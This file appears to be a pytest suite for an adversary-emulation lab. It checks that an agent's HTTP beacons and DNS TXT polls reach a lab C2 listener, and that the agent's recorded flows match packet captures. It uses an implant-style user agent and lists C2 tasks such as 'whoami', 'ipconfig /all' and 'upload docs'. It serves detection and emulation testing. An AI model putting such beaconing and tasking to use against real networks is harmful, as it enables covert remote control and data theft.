"""T1071.001 HTTP beaconing and T1071.004 DNS polling through the real agent in a namespace lab:
the check-ins reach the C2 listener, and the ledger equals the sensor's capture per 5-tuple."""
from __future__ import annotations

from lab_c2 import ATTACKER, C2, LAB
from nslab import lab_fixture, ledger_flows, needs_netns, packets_only, pcap_flows, read_jsonl

pytestmark = needs_netns

lab = lab_fixture(LAB)


def test_http_beacons_reach_the_listener_with_exact_accounting(lab):
    log, _out = lab.service("c2-http")
    before = len(read_jsonl(log))
    cap = lab.capture("beacon")
    res = lab.agent("T1071.001", [f"{C2}:8443"],
                    {"interval": 0.2, "jitter": 0.5, "count": 4, "method": "POST",
                     "user_agent": "implant/2.1", "id": "w01", "seed": 3})
    path = cap.stop()
    assert res["outcome"] == "succeeded", res
    assert res["facts"]["beacons"] == 4 and len(res["facts"]["tasks"]) == 4
    assert res["facts"]["tasks"][0] in ("sleep 60", "whoami", "hostname", "ipconfig /all",
                                        "netstat -an", "upload docs")
    recs = [r for r in read_jsonl(log)[before:] if r["kind"] == "beacon"]
    assert len(recs) == 4 and {r["peer"] for r in recs} == {ATTACKER}
    assert all(r["path"] == "/beacon?id=w01" and r["user_agent"] == "implant/2.1" for r in recs)
    gaps = [b["time"] - a["time"] for a, b in zip(recs, recs[1:])]
    assert all(0.08 <= g <= 0.5 for g in gaps), gaps           # 0.2 s +- 50 % (+ overhead)
    ledger, captured = ledger_flows(res["flows"]), pcap_flows(path, ATTACKER)
    assert len(ledger) == 4                                     # one connection per beacon
    assert packets_only(captured) == packets_only(ledger), (captured, ledger)
    diffs = {k: ledger[k][1] - captured[k][1] for k in ledger}
    assert all(d == 0 for d in diffs.values()), diffs


def test_dns_c2_polls_get_tasks(lab):
    log, _out = lab.service("c2-dns")
    cap = lab.capture("dnsbeacon", snap=2048)
    res = lab.agent("T1071.004", [f"{C2}:53"], {"interval": 0.05, "jitter": 0.2, "count": 5,
                                                 "session": "dc01"})
    path = cap.stop()
    assert res["outcome"] == "succeeded", res
    assert res["facts"]["beacons"] == 5 and res["facts"]["session"] == "dc01"
    polls = [r for r in read_jsonl(log) if r.get("kind") == "poll" and ".dc01.p." in r["qname"]]
    assert len(polls) == 5 and all(r["qtype"] == 16 for r in polls)
    assert pcap_flows(path, ATTACKER) == ledger_flows(res["flows"])       # packets and bytes
